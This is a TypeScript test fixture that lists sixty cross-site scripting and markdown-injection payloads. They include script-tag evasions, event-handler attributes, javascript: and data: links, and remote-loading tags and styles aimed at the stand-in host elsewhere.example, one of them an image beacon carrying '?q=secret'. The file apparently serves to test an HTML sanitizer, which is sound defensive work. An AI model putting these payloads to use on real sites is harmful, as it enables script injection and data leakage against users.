/** Where every attempt would lead; nobody answers there. */
const away = 'https://elsewhere.example'
const run = 'window.harmed=1'

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="${away}/a.js"></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `</textarea><script>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<template><script>${run}</script></template>`,
]

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<svg onload="${run}"></svg>`,
  `<svg/onload=${run}>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div onmouseover="${run}" style="position:fixed;inset:0">x</div>`,
  `<p onclick="${run}">x</p>`,
]

const addresses = [
  `[press](javascript:${run})`,
  `[press](JaVaScRiPt:${run})`,
  `[press](java\nscript:${run})`,
  `[press](data:text/html,<script>${run}</script>)`,
  `[press](vbscript:${run})`,
  `[press](${away})`,
  `<a href="javascript:${run}">press</a>`,
  `<a href="${away}" ping="${away}/ping">press</a>`,
  `<${away}/auto>`,
  `${away}/bare`,
  `[press]: ${away} "t"\n\n[press]`,
  `[x][ref]\n\n[ref]: javascript:${run}`,
  `<area href="${away}">`,
  `//elsewhere.example/path`,
]

const pictures = [
  `![x](${away}/?q=secret)`,
  `![x][pic]\n\n[pic]: ${away}/p.png`,
  `<img src="${away}/p.png">`,
  `<img srcset="${away}/p.png 2x">`,
  `<picture><source srcset="${away}/p.png"><img></picture>`,
  `<input type=image src="${away}/p.png">`,
  `<video poster="${away}/p.png"></video>`,
  `<svg><image href="${away}/p.svg"/></svg>`,
  `[![x](${away}/p.png)](${away})`,
  `<table background="${away}/p.png"><tr><td>x</td></tr></table>`,
]

const frames = [
  `<iframe src="${away}"></iframe>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<object data="${away}/o.swf"></object>`,
  `<embed src="${away}/e.swf">`,
  `<link rel=stylesheet href="${away}/s.css">`,
  `<link rel=preload as=image href="${away}/p.png">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}/">`,
  `<form action="${away}"><button>send</button></form>`,
  `<style>*{background:url(${away}/s)}</style>`,
  `<style>@import "${away}/s.css";</style>`,
  `<div style="background:url(${away}/d)">x</div>`,
]

const disguised = [
  '&lt;script&gt;window.harmed=1&lt;/script&gt;',
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `"><img src=x onerror=${run}>`,
]

/** Sixty texts that try to run code, to load something from elsewhere or to lead away. */
export const hostileTexts: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...pictures,
  ...frames,
  ...disguised,
]
